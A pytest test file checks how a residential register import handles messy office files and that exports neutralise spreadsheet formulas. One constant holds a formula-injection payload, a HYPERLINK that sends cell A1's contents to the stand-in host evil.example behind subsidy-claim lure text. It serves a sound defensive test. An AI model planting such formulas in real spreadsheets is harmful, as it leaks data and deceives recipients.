"""Real office files at their worst: encodings, formulas, merged headers, hidden sheets, serial
dates, thousands of blank rows. Each is read or refused with a message naming row and column,
and nothing is ever half applied."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from openpyxl.styles import PatternFill
from sqlalchemy import func, select

from server.evaluation.export import to_csv as dashboard_csv
from server.evaluation.export import to_xlsx as dashboard_xlsx
from server.exceptions import InvalidInput
from server.exports import cells
from server.extensions import db
from server.imports import pages
from server.population.models import Resident
from tests.server.import_world import (
    REGISTER_HEADER,
    csv_bytes,
    household_rows,
    xlsx_bytes,
)

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点此领补贴")'


def residents() -> int:
    return int(db.session.scalar(select(func.count()).select_from(Resident)))


def test_a_20_mb_file_in_no_known_encoding_is_refused_naming_the_row(office):
    good = csv_bytes(household_rows())
    filler = ("新华路329弄12号302室," * 8 + "\r\n").encode("utf-8") * 110_000
    bad_line = b"H9,\xff\xfe\x80\x80,\xe5\r\n"  # bytes that are neither UTF-8 nor GB18030
    data = good + filler + bad_line
    assert len(data) > 20 * 1024 * 1024
    run = office.check("register", data)
    assert run.state == "refused" and residents() == 0
    [found] = run.report["problems"]
    assert (
        found["rule"] == "bad_encoding" and found["row"] == data.count(b"\n", 0, len(data) - 9) + 1
    )
    assert "第" in found["message_zh"] and "UTF-8" in found["message_en"]


def test_a_gbk_file_is_read_and_its_encoding_named(office):
    run = office.apply("register", csv_bytes(household_rows(), encoding="gbk"))
    assert run.source["encoding"] == "GB18030" and residents() == 4
    assert [p["rule"] for p in run.report["problems"]] == ["encoding_detected"]


def test_excels_unicode_text_utf16_with_tabs_is_read(office):
    text = "\r\n".join("\t".join(map(str, r)) for r in household_rows())
    run = office.apply("register", text.encode("utf-16"))
    assert run.source["encoding"] == "UTF-16" and run.source["delimiter"] == "tab"
    assert residents() == 4


def test_a_formula_in_a_name_is_kept_as_text_and_neutralised_on_every_export(office):
    def as_text(book, sheet):  # typed into a text cell: a string, not a formula
        sheet["B2"].value, sheet["B2"].data_type = INJECTION, "s"

    run = office.apply("register", xlsx_bytes(household_rows(), setup=as_text))
    assert db.session.scalar(select(Resident.name).where(Resident.name == INJECTION))
    report = pages.report_csv(run, "zh").decode("utf-8-sig")
    assert "'=HYPERLINK" in report and ",=HYPERLINK" not in report
    table = [["组", "得分"], [INJECTION, 1.0]]
    assert "'=HYPERLINK" in dashboard_csv(table).decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(dashboard_xlsx(table, sheet="x"))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'=")
    template = load_workbook(io.BytesIO(cells.xlsx_bytes(table, sheet="x"))).active
    assert template["A2"].data_type == "s"


def test_merged_header_cells_and_a_title_row_are_understood(office):
    rows = [["新华路街道实有人口登记表"] + [None] * 8, household_rows()[0], *household_rows()[1:]]
    rows[1][5] = None  # 联系电话 merged over two columns with a sub-header row below

    def merge(book, sheet):
        sheet.merge_cells("A1:I1")
        sheet.merge_cells("E2:F2")

    run = office.apply("register", xlsx_bytes(rows, setup=merge))
    assert run.source["header_row"] == 2 and residents() == 4
    assert "merged_header" in run.report["counts_by_rule"]


def test_hidden_sheets_are_skipped_and_said_so(office):
    def hide_a_first_sheet(book, sheet):
        secret = book.create_sheet("旧名单", 0)
        secret.append(REGISTER_HEADER)
        secret.append(["X1", "不该导入", "男", "1950-01-01", "", "", "户主", "番禺路100号", ""])
        secret.sheet_state = "hidden"

    run = office.apply("register", xlsx_bytes(household_rows(), setup=hide_a_first_sheet))
    assert run.source["sheet"] == "登记" and residents() == 4
    assert "hidden_sheet_skipped" in run.report["counts_by_rule"]
    assert not db.session.scalar(select(Resident.id).where(Resident.name == "不该导入"))


def test_dates_stored_as_excel_serial_numbers_are_read(office):
    rows = household_rows()
    rows[1][3] = (dt.date(1942, 5, 17) - dt.date(1899, 12, 30)).days  # a General-format cell
    rows[2][3] = dt.datetime(1968, 3, 2)  # a date-formatted cell
    run = office.apply("register", xlsx_bytes(rows))
    assert run.report["problems"] == [] and residents() == 4


def test_fifty_thousand_formatted_blank_rows_at_the_end_are_ignored(office):
    def blank_tail(book, sheet):
        fill = PatternFill("solid", fgColor="FFFF00")
        for row in range(sheet.max_row + 1, sheet.max_row + 50_001):
            sheet.cell(row=row, column=1).fill = fill

    data = xlsx_bytes(household_rows(), setup=blank_tail)
    run = office.apply("register", data)
    assert run.counts["rows"] == 4 and run.report["problems"] == []


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "unreadable_file"),
        (b"PK\x03\x04 not really a zip", "unreadable_file"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "bad_encoding"),
        ("代码,数量\r\nA,3\r\n".encode(), "no_header"),
        (b" \r\n \r\n", "empty_file"),
        (csv_bytes([REGISTER_HEADER]), "no_rows"),
    ],
    ids=["legacy-xls", "broken-zip", "an-image", "unknown-headers", "blank", "header-only"],
)
def test_a_file_that_is_not_a_register_is_refused_with_a_reason(office, data, rule):
    run = office.check("register", data)
    assert run.state == "refused" and rule in run.report["counts_by_rule"], run.report
    assert residents() == 0


def test_an_empty_upload_is_invalid_input(office):
    with pytest.raises(InvalidInput):
        office.check("register", b"")


def test_a_missing_column_can_be_mapped_by_hand(office):
    rows = household_rows()
    rows[0] = ["户号", "居民名", *rows[0][2:]]
    refused = office.check("register", csv_bytes(rows))
    assert refused.state == "refused" and "missing_column" in refused.report["counts_by_rule"]
    run = office.check("register", csv_bytes(rows), mapping={"name": "居民名"})
    assert run.state == "checked" and run.mapping["name"] == "居民名"


def test_a_file_beyond_the_row_limit_is_refused_without_reading_it_all(office, monkeypatch):
    from server.imports import operations

    monkeypatch.setattr(operations, "MAX_ROWS", 3)
    run = office.check("register", csv_bytes(household_rows()))
    assert run.state == "refused" and "too_large" in run.report["counts_by_rule"]
    assert residents() == 0
